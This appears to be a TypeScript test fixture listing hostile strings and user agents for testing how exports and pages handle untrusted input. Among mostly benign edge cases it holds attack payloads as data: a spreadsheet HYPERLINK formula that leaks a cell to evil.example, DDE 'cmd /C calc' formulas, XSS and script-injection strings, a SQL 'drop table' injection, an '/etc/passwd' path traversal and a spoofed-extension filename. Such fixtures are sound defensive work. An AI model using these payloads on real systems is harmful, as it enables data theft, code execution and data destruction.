/**
 * What people type, and what breaks exports: formulas that a spreadsheet would run, markup that a page would run, line breaks and quotes
 * that a CSV would split on, directions and marks that mislead the eye, names that JavaScript reserves, words that databases mean.
 * PostgreSQL cannot store U+0000 nor a lone surrogate, so neither is here.
 */
export const hostileTexts: readonly string[] = [
  // Spreadsheet formulas, half-width and full-width
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  "+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'quoted, and it's \"fine\"",
  "\tstarts with a tab",
  "\r\nstarts with a line break",
  "\nstarts with another",
  "＝1＋1",
  "＋49 30 1234",
  "－1",
  "＠SUM(1)",
  // Markup and templates
  '</script><script>alert("portmanteau")</script>',
  '<img src=x onerror="alert(1)"> &amp; &lt;b&gt;',
  "<!-- ]]> --> {{7*7}} $" + "{7*7} %s %n",
  "javascript:alert(1)",
  // Separators and quotes
  'She wrote: "commas, and ""doubled"" quotes";\r\na second line\rand a third\nand a fourth\n',
  ",",
  '"',
  '""',
  '",\r\n"',
  "semicolon; pipe | tab\tend",
  // Characters that mislead
  "🦊 👩‍👩‍👧‍👦 🏳️‍🌈 a\u0301 is not \u00e1",
  "שלום עולם, مرحبا بالعالم (and back)",
  "invoice_\u202efdp.exe",
  "zero\u200bwidth\u2060and\u00a0no-break",
  "\ufeffstarts with a byte order mark",
  "line\u2028separator and paragraph\u2029separator",
  "\u0001\u001b[31mcontrol\u001b[0m\u007f\u0085",
  "Z\u0338\u035d\u0322a\u0334\u0341l\u0337g\u0336o\u0335",
  "\ufffd \uffff \u{10ffff}",
  // Words that mean something to a machine
  "__proto__",
  "constructor",
  "toString",
  "null",
  "NULL",
  "undefined",
  "NaN",
  "\\N",
  "\\.",
  "true",
  "007",
  "1e5",
  "12345678901234567890",
  "2025-01-01",
  "'; drop table accounts; --",
  "$1",
  "../../etc/passwd",
  "C:\\temp\\",
  // Nearly nothing, and far too much
  "",
  "   ",
  " ends with a space ",
  "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft".repeat(40),
  `A pasted log:\n${'2025-06-01 12:00:00.000 WARN queue depth=12,5 "slow"\r\n'.repeat(1200)}`,
];

/** What programs call themselves, an empty name and none at all among them. */
export const userAgents: readonly (string | null)[] = [
  "vekora-cli/3.4.1 (linux; x64) node/20.19.0",
  "vekora-cli/3.2.0 (darwin; arm64) node/22.3.0",
  "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
  "terraform-provider-vekora/1.9.2",
  "python-requests/2.32.3",
  "curl/8.11.0",
  '=HYPERLINK("https://evil.example/ua","agent")',
  "@SUM(1+1)",
  "+1",
  "-agent/1.0",
  '\'agent, "quoted"',
  "</script><script>alert('agent')</script>",
  "bot\u202e/0.1",
  "агент/1.0 🤖",
  "__proto__",
  "",
  null,
];
